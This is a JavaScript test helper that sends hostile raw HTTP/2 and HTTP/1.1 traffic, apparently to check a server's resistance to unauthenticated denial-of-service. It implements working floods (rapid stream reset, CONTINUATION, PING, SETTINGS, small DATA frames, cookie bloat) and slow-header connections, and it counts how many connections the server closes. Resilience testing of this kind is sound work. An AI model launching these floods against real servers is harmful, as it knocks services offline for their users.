// Raw HTTP/2 and HTTP/1.1 traffic of hostile clients without credentials, for attacks.mjs.
import { setTimeout as sleep } from 'node:timers/promises';
import tls from 'node:tls';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
export const FRAMES = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, window: 8, continuation: 9 };

/** One frame (RFC 9113, 4.1). */
export function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header without compression (RFC 7541, 6.2.2). */
function header(name, value) {
  const text = (s) => {
    const bytes = Buffer.from(s);
    if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes]);
    const length = [127];
    let rest = bytes.length - 127;
    for (; rest > 127; rest = Math.floor(rest / 128)) length.push((rest % 128) + 128);
    length.push(rest);
    return Buffer.concat([Buffer.from(length), bytes]);
  };
  return Buffer.concat([Buffer.from([0]), text(name), text(value)]);
}

/** The headers of a request; `more` are pairs. */
export function requestHeaders(method, path, more = []) {
  const all = [[':method', method], [':scheme', 'https'], [':authority', 'x'], [':path', path], ...more];
  return Buffer.concat(all.map(([name, value]) => header(name, value)));
}

const END_STREAM = 1;
const END_HEADERS = 4;
const u32 = (n) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n);
  return b;
};
const many = (n, f) => Buffer.concat(Array.from({ length: n }, (_, i) => f(i)));
const get = requestHeaders('GET', '/livez');
const post = requestHeaders('POST', '/api/v1/namespaces/default/configmaps', [['content-type', 'application/json']]);

/** Kinds of flood over HTTP/2: what is sent first, and what is repeated (`i` counts the repetitions). */
export const http2Floods = {
  'PING frames': { repeat: () => many(2000, () => frame(FRAMES.ping, 0, 0, Buffer.alloc(8))) },
  'SETTINGS frames': { repeat: () => many(2000, () => frame(FRAMES.settings, 0, 0)) },
  'SETTINGS frames with values': {
    repeat: () => many(500, (i) => frame(FRAMES.settings, 0, 0, Buffer.concat([Buffer.from([0, 4]), u32(60_000 + i)]))),
  },
  'WINDOW_UPDATE frames': { repeat: () => many(2000, () => frame(FRAMES.window, 0, 0, u32(1))) },
  'PRIORITY frames': { repeat: () => many(2000, (i) => frame(FRAMES.priority, 0, 2 * i + 1, Buffer.from([0, 0, 0, 0, 1]))) },
  'unknown frames': { repeat: () => many(2000, () => frame(0x50, 0, 0)) },
  'streams reset at once': {
    repeat: (i) =>
      many(500, (j) => {
        const stream = 2 * (500 * i + j) + 1;
        return Buffer.concat([frame(FRAMES.headers, END_STREAM | END_HEADERS, stream, get), frame(FRAMES.reset, 0, stream, u32(8))]);
      }),
    times: 200,
  },
  'DATA frames of one byte': {
    first: frame(FRAMES.headers, END_HEADERS, 1, post),
    repeat: () => many(2000, () => frame(FRAMES.data, 0, 1, Buffer.from(' '))),
    times: 100,
  },
  'empty DATA frames': {
    first: frame(FRAMES.headers, END_HEADERS, 1, post),
    repeat: () => many(2000, () => frame(FRAMES.data, 0, 1)),
  },
  'CONTINUATION frames': {
    first: frame(FRAMES.headers, END_STREAM, 1, get),
    repeat: () => many(1000, (i) => frame(FRAMES.continuation, 0, 1, header(`x${i}`, 'y'))),
  },
  'empty CONTINUATION frames': {
    first: frame(FRAMES.headers, END_STREAM, 1, get),
    repeat: () => many(2000, () => frame(FRAMES.continuation, 0, 1)),
  },
  'cookie crumbs': {
    repeat: (i) =>
      many(20, (j) =>
        frame(FRAMES.headers, END_STREAM | END_HEADERS, 2 * (20 * i + j) + 1, Buffer.concat([get, many(1500, () => header('cookie', 'a'))])),
      ),
    times: 50,
  },
};

/**
 * Sends a flood on `count` connections until `stop` resolves or the server has closed them. Resolves how many the server closed. What was
 * repeated `times` times is over; its connection then stays open.
 */
export async function http2Flood(open, count, { first = Buffer.alloc(0), repeat, times = Infinity }, stop) {
  let closed = 0;
  let stopped = false;
  const one = () =>
    new Promise((resolve) => {
      const socket = tls.connect({ ...open, ALPNProtocols: ['h2'] });
      socket.on('error', () => {});
      socket.on('data', () => {});
      socket.on('close', () => {
        if (!stopped) closed++;
        resolve();
      });
      void stop.then(() => socket.destroy());
      socket.once('secureConnect', () => {
        socket.write(Buffer.concat([PREFACE, frame(FRAMES.settings, 0, 0), first]));
        let i = 0;
        const more = () => {
          if (socket.destroyed || i >= times) return;
          // Not at once: timers would never run.
          const next = () => setImmediate(more);
          if (socket.write(repeat(i++))) next();
          else socket.once('drain', next);
        };
        more();
      });
    });
  void stop.then(() => {
    stopped = true;
  });
  await Promise.all(Array.from({ length: count }, one));
  return { count, closed };
}

/** Connections that send a header line every 100 ms and never the end. */
export async function slowHeaders(open, count) {
  const sockets = Array.from({ length: count }, () => {
    const socket = tls.connect({ ...open, ALPNProtocols: ['http/1.1'] });
    socket.on('error', () => {});
    socket.once('secureConnect', () => socket.write('GET /livez HTTP/1.1\r\nHost: x\r\n'));
    return socket;
  });
  for (let i = 0; i < 20; i++) {
    await sleep(100);
    for (const socket of sockets) if (socket.writable) socket.write(`X-${i}: y\r\n`);
  }
  for (const socket of sockets) socket.destroy();
}
